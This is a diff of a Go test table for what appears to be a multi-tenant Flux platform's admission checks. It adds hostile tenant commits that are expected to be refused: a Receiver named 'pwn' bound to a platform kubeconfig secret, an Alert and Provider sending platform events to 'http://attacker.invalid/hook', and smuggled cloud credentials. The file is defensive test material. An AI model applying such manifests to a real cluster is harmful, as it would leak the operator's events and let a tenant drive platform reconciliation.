@@ -108,6 +108,14 @@ func hostileCommits() []hostileCommit {
 			shows: []string{"forbidden"}},
 		{class: "its own admission parameters", files: map[string]string{"x/params.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cluster-init-tenant\ndata:\n  workers_replicas: \"1000\"\n"},
 			shows: []string{"forbidden"}},
+		// The notifications: a Receiver that makes the platform's source fetch at the tenant's call,
+		// an Alert that sends the platform's events to the tenant's webhook, credentials of its own.
+		{class: "a Receiver of the platform's source", files: map[string]string{"x/receiver.yaml": "apiVersion: notification.toolkit.fluxcd.io/v1\nkind: Receiver\nmetadata:\n  name: pwn\nspec:\n  type: generic\n  secretRef: {name: wlx-kubeconfig}\n  resources:\n    - {apiVersion: source.toolkit.fluxcd.io/v1, kind: GitRepository, name: cluster-init, namespace: cluster-init}\n"},
+			shows: []string{"forbidden"}},
+		{class: "an Alert of the platform's events to its own webhook", files: map[string]string{"x/alert.yaml": "apiVersion: notification.toolkit.fluxcd.io/v1beta3\nkind: Provider\nmetadata:\n  name: pwn\nspec:\n  type: generic\n  address: http://attacker.invalid/hook\n---\napiVersion: notification.toolkit.fluxcd.io/v1beta3\nkind: Alert\nmetadata:\n  name: pwn\nspec:\n  providerRef: {name: pwn}\n  eventSources:\n    - {kind: Kustomization, name: '*', namespace: cluster-init}\n"},
+			shows: []string{"forbidden"}},
+		{class: "credentials in its values", files: map[string]string{"x/cluster.yaml": strings.Replace(workloadCluster("wlx", "", ""), "  values:\n", "  values:\n    credentials:\n      openstack: {clouds_yaml: \"clouds: {}\"}\n", 1)},
+			shows: []string{"spec.values.credentials"}},
 		{class: "a Kustomization of its own (as the controller)", files: map[string]string{"x/ks.yaml": "apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata:\n  name: pwn\nspec:\n  interval: 1m\n  path: ./\n  prune: false\n  sourceRef: {kind: GitRepository, name: cluster-init, namespace: cluster-init}\n"},
 			shows: []string{"forbidden"}},
 	}
